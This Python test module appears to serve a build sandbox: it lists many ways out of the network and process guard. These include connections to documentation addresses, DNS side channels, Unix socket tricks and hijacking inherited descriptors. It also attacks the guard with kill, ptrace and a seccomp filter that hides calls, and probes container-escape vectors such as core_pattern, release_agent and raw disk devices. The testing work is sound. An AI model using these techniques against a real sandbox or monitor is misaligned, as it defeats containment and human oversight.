"""Ways out of `assetkit offline`, each a function that runs inside the build. Called by `escapes.py` in this folder.

What an attempt prints is shown when it was not held. An attempt on the watch itself (root's mounts, the guard) ends with a lookup: what
comes after must still be heard."""

import array
import ctypes
import errno
import json
import os
import pathlib
import signal
import socket
import struct
import subprocess
import sys
import time

ATTEMPTS = {}
REMOTE, REMOTE6 = "192.0.2.1", "2001:db8::1"  # for documentation: RFC 5737, RFC 3849


def attempt(name, hears, group, who="both", wraps=None):
    """`hears`: what the report must name, "" for anything at all, None where there is nothing to hear.
    `wraps`: how escapes.py starts the program: with a descriptor, on a terminal, from a ring."""
    def keep(function):
        ATTEMPTS[name] = (function, hears, group, who, wraps)
        return function
    return keep


class World:
    """Where the outside listens; written by escapes.py."""

    def __init__(self, folder):
        self.folder = pathlib.Path(folder)
        self.__dict__.update(json.loads((self.folder / "world.json").read_text()))

    def path(self, name):
        return str(self.folder / name)

    def calls(self, *arguments):
        return subprocess.run([self.path("calls"), *arguments]).returncode


def tcp(address, port, family=socket.AF_INET, protocol=0):
    client = socket.socket(family, socket.SOCK_STREAM, protocol)
    client.settimeout(3)
    client.connect((address, port))
    client.sendall(b"escaped")
    print("connected")


def udp(address, port, family=socket.AF_INET):
    socket.socket(family, socket.SOCK_DGRAM).sendto(b"escaped", (address, port))
    print("sent")


def unix(path, kind=socket.SOCK_STREAM):
    client = socket.socket(socket.AF_UNIX, kind)
    client.settimeout(3)
    client.connect(path)
    client.send(b"escaped")
    print("connected")
    return client


def question(name, number=0x1234):
    """A DNS question for an A record (RFC 1035, section 4.1)."""
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack(">6H", number, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", 1, 1)


def afterwards():
    """The watch must still work."""
    try:
        socket.getaddrinfo("afterwards.example", 80)
    except OSError:
        pass


def syscall(number, *arguments):
    library = ctypes.CDLL(None, use_errno=True)
    result = library.syscall(number, *arguments)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def opened(path, how):
    """Whether root can open what the kernel of the outside reads."""
    try:
        os.close(os.open(path, how))
        print(f"ESCAPED: {path} can be opened for writing")
    except OSError as error:
        print(f"{path}: {error.strerror}")


# --- Internet addresses ---

@attempt("TCP to an address", REMOTE, "addresses")
def _(w): tcp(REMOTE, w.port)

@attempt("TCP over IPv6", REMOTE6, "addresses")
def _(w): tcp(REMOTE6, w.port, socket.AF_INET6)

@attempt("TCP to an IPv4-mapped address", REMOTE, "addresses")
def _(w): tcp("::ffff:" + REMOTE, w.port, socket.AF_INET6)

@attempt("TCP from a bare system call in a static program", REMOTE, "addresses")
def _(w): w.calls("bare", str(w.port))

@attempt("TCP through the 32-bit entry", REMOTE, "addresses")
def _(w): w.calls("compat", str(w.port))

@attempt("TCP through 32-bit socketcall", REMOTE, "addresses")
def _(w): w.calls("multiplexed", str(w.port))

@attempt("TCP by an x32 system call", None, "addresses")
def _(w): w.calls("x32", str(w.port))

@attempt("TCP with data in the first packet (MSG_FASTOPEN)", REMOTE, "addresses")
def _(w): socket.socket().sendto(b"escaped", 0x20000000, (REMOTE, w.port))

@attempt("Multipath TCP", REMOTE, "addresses")
def _(w): tcp(REMOTE, w.port, protocol=262)

@attempt("UDP to an address", REMOTE, "addresses")
def _(w): udp(REMOTE, w.port)

@attempt("UDP over IPv6", REMOTE6, "addresses")
def _(w): udp(REMOTE6, w.port, socket.AF_INET6)

@attempt("UDP connected first", REMOTE, "addresses")
def _(w):
    client = socket.socket(type=socket.SOCK_DGRAM)
    client.connect((REMOTE, w.port))
    client.send(b"escaped")

@attempt("UDP by sendmsg", REMOTE, "addresses")
def _(w): socket.socket(type=socket.SOCK_DGRAM).sendmsg([b"escaped"], [], 0, (REMOTE, w.port))

@attempt("the fortieth destination of one sendmmsg", REMOTE, "addresses")
def _(w):
    client = socket.socket(type=socket.SOCK_DGRAM)
    count, kept = 40, []
    # The others have a server inside, so that nothing before the last is an attempt.
    server = socket.socket(type=socket.SOCK_DGRAM)
    server.bind(("127.0.0.1", 0))
    headers = (ctypes.c_uint64 * (8 * count))()
    for i in range(count):
        address = server.getsockname() if i < count - 1 else (REMOTE, w.port)
        name = ctypes.create_string_buffer(struct.pack("=H", socket.AF_INET) + struct.pack(">H", address[1]) + socket.inet_aton(address[0]) + bytes(8))
        data = ctypes.create_string_buffer(b"escaped")
        vector = (ctypes.c_uint64 * 2)(ctypes.addressof(data), 7)
        kept += [name, data, vector]
        headers[8 * i:8 * i + 4] = [ctypes.addressof(name), 16, ctypes.addressof(vector), 1]
    ctypes.CDLL(None).sendmmsg(client.fileno(), headers, count, 0)

@attempt("UDP to an address of no family (AF_UNSPEC)", REMOTE, "addresses")
def _(w):
    client = socket.socket(type=socket.SOCK_DGRAM)
    name = struct.pack("=H", 0) + struct.pack(">H", w.port) + socket.inet_aton(REMOTE) + bytes(8)
    ctypes.CDLL(None).sendto(client.fileno(), b"escaped", 7, 0, name, 16)

@attempt("multicast", "224.0.0.251", "addresses")
def _(w): udp("224.0.0.251", 5353)

@attempt("broadcast", "255.255.255.255", "addresses")
def _(w):
    client = socket.socket(type=socket.SOCK_DGRAM)
    client.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    client.sendto(b"escaped", ("255.255.255.255", w.port))

@attempt("a ping through a raw socket", None, "addresses", who="root")
def _(w):
    socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", (REMOTE, 0))

@attempt("a raw Ethernet frame", None, "addresses", who="root")
def _(w): socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)).sendto(b"\xff" * 12 + b"\x08\x00escaped", ("lo", 0))

@attempt("the host of a virtual machine (AF_VSOCK)", "vsock", "addresses")
def _(w): socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).connect((2, w.port))

@attempt("families that a network namespace does not contain", None, "addresses")
def _(w):
    for family in (31, 30, 33, 43, 29, 21, 39):  # Bluetooth, TIPC, RxRPC, SMC, CAN, RDS, NFC
        for kind in (1, 2, 3, 5):
            try:
                socket.socket(family, kind)
                print(f"ESCAPED: a socket of family {family}")
            except OSError:
                pass

# --- Names ---

@attempt("a lookup", "name.example", "names")
def _(w): socket.getaddrinfo("name.example", 80)

@attempt("a lookup by a name server of its own choice", "192.0.2.1", "names")
def _(w): udp(REMOTE, 53)

@attempt("DNS to 127.0.0.53", "stub.example", "names")
def _(w): socket.socket(type=socket.SOCK_DGRAM).sendto(question("stub.example"), ("127.0.0.53", 53))

@attempt("DNS over TCP to 127.0.0.53", "stub.example", "names")
def _(w):
    client = socket.create_connection(("127.0.0.53", 53), 3)
    client.sendall(struct.pack(">H", len(question("stub.example"))) + question("stub.example"))
    client.recv(512)

@attempt("DNS to ::1", "six.example", "names")
def _(w): socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(question("six.example"), ("::1", 53))

@attempt("a lookup in a nested network namespace", "", "names")
def _(w): subprocess.run(["unshare", "-Urn", "sh", "-c", "getent ahosts nested.example"])

@attempt("a lookup in a nested namespace with its loopback up", "", "names")
def _(w): subprocess.run(["unshare", "-Urn", "sh", "-c", "ip link set lo up; getent ahosts nested.example"])

@attempt("a connection in a nested network namespace", REMOTE, "names")
def _(w): subprocess.run(["unshare", "-Urn", sys.executable, __file__, str(w.folder), "TCP to an address"])

@attempt("multicast DNS", "", "names")
def _(w): socket.socket(type=socket.SOCK_DGRAM).sendto(question("printer.local"), ("224.0.0.251", 5353))

# --- The loopback of the outside ---

@attempt("a proxy on 127.0.0.1", "127.0.0.1", "loopback")
def _(w): tcp("127.0.0.1", w.port)

@attempt("a registry on ::1", "::1", "loopback")
def _(w): tcp("::1", w.port, socket.AF_INET6)

@attempt("a server on 127.8.8.8", "127.8.8.8", "loopback")
def _(w): tcp("127.8.8.8", w.port)

@attempt("a server at 0.0.0.0", "", "loopback")
def _(w): tcp("0.0.0.0", w.port)

@attempt("a datagram to a server on 127.0.0.1", "127.0.0.1", "loopback")
def _(w): udp("127.0.0.1", w.port)

@attempt("http_proxy on 127.0.0.1", "", "loopback", wraps="proxy")
def _(w): subprocess.run(["curl", "-s", "--max-time", "3", "http://proxied.example/"])

# --- Unix sockets ---

@attempt("a Unix socket outside", "stream", "unix sockets")
def _(w): unix(w.path("stream"))

@attempt("docker.sock elsewhere", "docker.sock", "unix sockets")
def _(w): unix(w.path("docker.sock"))

@attempt("a sequential-packet socket", "packets", "unix sockets")
def _(w): unix(w.path("packets"), socket.SOCK_SEQPACKET)

@attempt("a datagram to a Unix socket", "datagrams", "unix sockets")
def _(w): socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"escaped", w.path("datagrams"))

@attempt("a connected datagram socket", "datagrams", "unix sockets")
def _(w): unix(w.path("datagrams"), socket.SOCK_DGRAM)

@attempt("a datagram with a descriptor", "datagrams", "unix sockets")
def _(w):
    files = array.array("i", [0])
    socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendmsg(
        [b"escaped"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, files)], 0, w.path("datagrams"))

@attempt("a TCP socket handed over (SCM_RIGHTS)", "hand-over", "unix sockets")
def _(w):
    client = unix(w.path("hand-over"))
    _, received, _, _ = socket.recv_fds(client, 16, 1)
    socket.socket(fileno=received[0]).sendall(b"escaped")

@attempt("through a symbolic link", "", "unix sockets")
def _(w):
    os.symlink(w.path("stream"), "link")
    unix("link")

@attempt("through a hard link", "", "unix sockets", who="root")
def _(w):
    os.link(w.path("stream"), w.path("work/hard"))
    unix("hard")

@attempt("by a path relative to another folder", "", "unix sockets")
def _(w):
    os.chdir(w.folder)
    unix("stream")

@attempt("through /proc/self/fd", "", "unix sockets")
def _(w):
    folder = os.open(w.folder, os.O_PATH)
    unix(f"/proc/self/fd/{folder}/stream")

@attempt("through /proc/self/fd of the socket itself", "", "unix sockets")
def _(w): unix(f"/proc/self/fd/{os.open(w.path('stream'), os.O_PATH)}")

@attempt("beside a socket of the same name inside", "", "unix sockets")
def _(w):
    server = socket.socket(socket.AF_UNIX)
    server.bind("stream")
    server.listen()
    unix(w.path("stream"))

@attempt("beside one that was bound and moved away", "", "unix sockets")
def _(w):
    server = socket.socket(socket.AF_UNIX)
    server.bind("socket")
    server.listen()
    os.rename("socket", "moved")
    os.symlink(w.path("stream"), "socket")
    unix("socket")

@attempt("a path that changes while it is looked at", None, "unix sockets")
def _(w): w.calls("swap", w.path("work/inside"), w.path("stream"))

@attempt("a datagram's path that changes", None, "unix sockets")
def _(w): w.calls("swap-send", w.path("work/inside"), w.path("datagrams"), "escaped")

@attempt("an abstract socket", None, "unix sockets")
def _(w): unix("\0" + w.abstract)

@attempt("a Unix socket through io_uring", None, "unix sockets")
def _(w): w.calls("ring", w.path("stream"))

@attempt("through a bind mount", "", "unix sockets", who="root")
def _(w):
    open("file", "w").close()
    subprocess.run(["mount", "--bind", w.path("stream"), "file"])
    unix("file")

@attempt("from a nested mount and network namespace", "", "unix sockets")
def _(w): subprocess.run(["unshare", "-Urnm", sys.executable, __file__, str(w.folder), "a Unix socket outside"])

@attempt("from another root folder", "", "unix sockets", who="root")
def _(w):
    os.chroot(w.folder)
    unix("/stream")

# --- What the build was given ---

@attempt("a TCP socket as standard input", None, "descriptors", wraps="stdin-tcp")
def _(w):
    print("answer", socket.socket(fileno=os.dup(0)).send(b"escaped"))

@attempt("a TCP socket as standard error", None, "descriptors", wraps="stderr-tcp")
def _(w):
    peer = socket.socket(fileno=os.dup(2))
    peer.settimeout(3)
    received = peer.recv(16)
    print("ESCAPED: read", received)

@attempt("a Unix socket as standard input that hands over a descriptor", None, "descriptors", wraps="stdin-unix")
def _(w):
    _, received, _, _ = socket.recv_fds(socket.socket(fileno=os.dup(0)), 16, 1)
    socket.socket(fileno=received[0]).sendall(b"escaped")

@attempt("a TCP socket as descriptor 7", None, "descriptors", wraps="fd-tcp")
def _(w): socket.socket(fileno=7).sendall(b"escaped")

@attempt("a process descriptor of the outside", None, "descriptors", wraps="fd-pidfd")
def _(w):
    for number in range(3, 40):
        try:
            copy = syscall(438, 8, number, 0)  # pidfd_getfd
            socket.socket(fileno=copy).sendall(b"escaped")
        except OSError as error:
            if error.errno == errno.EBADF and number == 3:
                raise

@attempt("the outside's /proc as a descriptor", None, "descriptors", wraps="fd-proc")
def _(w):
    memory = os.open(f"{w.pid}/mem", os.O_RDWR, dir_fd=9)
    maps = os.open(f"{w.pid}/maps", os.O_RDONLY, dir_fd=9)
    print("ESCAPED: the memory of a process outside is writable", memory, os.read(maps, 20))

@attempt("an io_uring made before the build", None, "descriptors", wraps="fd-ring")
def _(w): w.calls("old-ring", "9", w.path("stream"))

@attempt("typing into the terminal (TIOCSTI)", None, "descriptors", wraps="terminal")
def _(w):
    import fcntl
    import termios
    terminal = os.open("/dev/tty", os.O_RDWR)
    for letter in "escaped":
        fcntl.ioctl(terminal, termios.TIOCSTI, letter.encode())

# --- The watch itself ---

@attempt("to be still there when the build has ended", None, "the watch")
def _(w):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            time.sleep(1)
            (w.folder / "work/late").write_text("ESCAPED")
        os._exit(0)

@attempt("to kill the guard", "afterwards.example", "the watch")
def _(w):
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGSEGV):
        try:
            os.kill(1, number)
        except OSError:
            pass
    afterwards()

@attempt("to take the guard's sockets (pidfd_getfd)", "afterwards.example", "the watch")
def _(w):
    handle = syscall(434, 1, 0)
    for number in range(0, 64):
        try:
            print("ESCAPED: descriptor", number, syscall(438, handle, number, 0))
        except OSError as error:
            print(number, error.strerror, end="; ")
    afterwards()

@attempt("to trace the guard", "afterwards.example", "the watch")
def _(w):
    library = ctypes.CDLL(None, use_errno=True)
    for request in (16, 0x4206):  # PTRACE_ATTACH, PTRACE_SEIZE
        if library.ptrace(request, 1, None, None) == 0:
            print("ESCAPED: traces the guard")
    afterwards()

@attempt("to write the guard's memory", "afterwards.example", "the watch")
def _(w):
    for name in ("mem", "fd/3", "root/etc", "cwd", "ns/net"):
        try:
            os.close(os.open(f"/proc/1/{name}", os.O_RDWR if name == "mem" else os.O_RDONLY))
            print("ESCAPED: can open", name)
        except OSError as error:
            print(name, error.strerror, end="; ")
    afterwards()

@attempt("to forge the report through an inherited socket", "afterwards.example", "the watch")
def _(w):
    afterwards()
    ended = struct.pack("=4i5i", 3, 0, 0, 0, -1, -1, -1, -1, -1)
    for number in range(3, 256):
        try:
            socket.socket(fileno=os.dup(number)).send(ended)
            print("ESCAPED: wrote to descriptor", number)
        except OSError:
            pass

@attempt("to replace the report's file", "afterwards.example", "the watch", wraps="report")
def _(w):
    afterwards()
    for name in ("report.json", "report.sarif"):
        pathlib.Path(w.path("work/" + name)).unlink(missing_ok=True)
        os.symlink(w.path("work/elsewhere"), w.path("work/" + name))

@attempt("a seccomp filter of its own that hides calls", None, "the watch")
def _(w):
    # Answers connect with 0 before the watch sees it: hidden, and never done.
    instructions = [(0x20, 0, 0, 0), (0x15, 0, 1, 42), (0x06, 0, 0, 0x00050000), (0x06, 0, 0, 0x7fff0000)]
    code = b"".join(struct.pack("=HBBI", *i) for i in instructions)
    buffer = ctypes.create_string_buffer(code)
    program = struct.pack("=HxxxxxxQ", len(instructions), ctypes.addressof(buffer))
    library = ctypes.CDLL(None, use_errno=True)
    library.prctl(38, 1, 0, 0, 0)
    print("filter", library.prctl(22, 2, program, 0, 0))
    tcp(REMOTE, w.port)

@attempt("to enter another network namespace", "afterwards.example", "the watch")
def _(w):
    for path in (w.namespace, "/proc/1/ns/net"):
        try:
            syscall(308, os.open(path, os.O_RDONLY), 0)  # setns
            tcp(REMOTE, w.port)
        except OSError as error:
            print(path, error.strerror)
    afterwards()

@attempt("a key request that the kernel would take outside", "request_key", "the watch")
def _(w):
    # With something to call out, the kernel starts /sbin/request-key in the namespaces of the outside.
    syscall(249, b"dns_resolver", b"escaped.example", b"x", -3)

@attempt("unmounting what covers files", "afterwards.example", "the watch", who="root")
def _(w):
    for path in ("/etc/resolv.conf", "/etc/nsswitch.conf", "/proc/sys", "/sys", "/proc", "/dev"):
        if subprocess.run(["umount", "-l", path], capture_output=True).returncode == 0:
            print("unmounted", path)
    if "127.0.0.1" not in pathlib.Path("/etc/resolv.conf").read_text():
        print("ESCAPED: resolv.conf is the outside's")
    afterwards()

@attempt("a bind mount of / without what covers it", "afterwards.example", "the watch", who="root")
def _(w):
    os.mkdir("root")
    subprocess.run(["mount", "--bind", "/", "root"])
    if os.path.exists("root/etc/resolv.conf") and "127.0.0.1" not in pathlib.Path("root/etc/resolv.conf").read_text():
        print("ESCAPED: the outside's resolv.conf is visible")
    afterwards()

@attempt("the loopback taken down", "", "the watch", who="root")
def _(w):
    subprocess.run("ip link set lo down; ip addr flush dev lo", shell=True, stderr=subprocess.DEVNULL)
    afterwards()

@attempt("a packet filter that hides lookups", "afterwards.example", "the watch", who="root")
def _(w):
    subprocess.run("iptables -t nat -A OUTPUT -p udp --dport 53 -j REDIRECT --to-ports 9; iptables -A OUTPUT -p udp -j DROP; "
                   "nft add table inet t", shell=True, capture_output=True)
    afterwards()

@attempt("another server in the place of the resolver", "afterwards.example", "the watch", who="root")
def _(w):
    server = socket.socket(type=socket.SOCK_DGRAM)
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    try:
        server.bind(("127.0.0.1", 53))
    except OSError as error:
        print(error.strerror)
    afterwards()

@attempt("core_pattern and its like", None, "the kernel", who="root")
def _(w):
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sysrq-trigger", "/proc/sys/kernel/hotplug",
                 "/sys/kernel/uevent_helper", "/proc/sys/fs/binfmt_misc/register"):
        opened(path, os.O_WRONLY)

@attempt("core_pattern through a new mount of proc", None, "the kernel", who="root")
def _(w):
    os.mkdir("proc")
    subprocess.run(["unshare", "-pfm", "sh", "-c", "mount -t proc proc proc && : >> proc/sys/kernel/core_pattern && echo ESCAPED"],
                   stderr=subprocess.DEVNULL)

@attempt("/sys made writable again", None, "the kernel", who="root")
def _(w):
    os.mkdir("sys")
    for command in ("mount -o remount,rw /proc/sys", "mount -o remount,rw /sys", "mount -o remount,bind,rw /proc/sys", "mount -t sysfs sys sys"):
        subprocess.run(command.split(), stderr=subprocess.DEVNULL)
    for path in ("/proc/sys/kernel/core_pattern", "sys/kernel/uevent_helper", "/sys/kernel/uevent_helper", "sys/kernel/mm/ksm/run"):
        opened(path, os.O_WRONLY)

@attempt("disks and memory as device files", None, "the kernel", who="root")
def _(w):
    for line in pathlib.Path("/proc/partitions").read_text().splitlines()[2:]:
        opened("/dev/" + line.split()[3], os.O_RDWR)
    for path in ("/dev/mem", "/dev/kmem", "/dev/port", "/dev/kmsg"):
        opened(path, os.O_RDWR)

@attempt("a device file of its own", None, "the kernel", who="root")
def _(w):
    for line in pathlib.Path("/proc/partitions").read_text().splitlines()[2:3]:
        major, minor = map(int, line.split()[:2])
        try:
            os.mknod("disk", 0o600 | 0o060000, os.makedev(major, minor))
            opened("disk", os.O_RDWR)
        except OSError as error:
            print(error.strerror)

@attempt("network file systems", None, "the kernel", who="root")
def _(w):
    os.mkdir("mounted")
    for kind, source in (("nfs", REMOTE + ":/"), ("nfs4", REMOTE + ":/"), ("cifs", f"//{REMOTE}/a"), ("9p", REMOTE), ("ceph", REMOTE + ":/")):
        options = f"addr={REMOTE},port={w.port},vers=4,trans=tcp".encode()
        if ctypes.CDLL(None).mount(source.encode(), b"mounted", kind.encode(), 0, options) == 0:
            print("ESCAPED: mounted", kind)

@attempt("a kernel module, a program for the kernel", None, "the kernel", who="root")
def _(w):
    for number, arguments in ((175, (b"x", 1, b"")), (313, (0, b"", 0)), (246, (0, 0, 0, 0)), (321, (5, ctypes.create_string_buffer(128), 128))):
        try:
            syscall(number, *arguments)
            print("ESCAPED: system call", number)
        except OSError as error:
            print(error.strerror, end="; ")

@attempt("a control group's release agent", None, "the kernel", who="root")
def _(w):
    for path in pathlib.Path("/sys/fs/cgroup").glob("*/release_agent"):
        opened(str(path), os.O_WRONLY)
    os.mkdir("groups")
    if ctypes.CDLL(None).mount(b"x", b"groups", b"cgroup", 0, b"none,name=escape") == 0:
        opened("groups/release_agent", os.O_WRONLY)


if __name__ == "__main__":
    try:
        ATTEMPTS[sys.argv[2]][0](World(sys.argv[1]))
    except OSError as error:
        print(f"{type(error).__name__}: {error}")
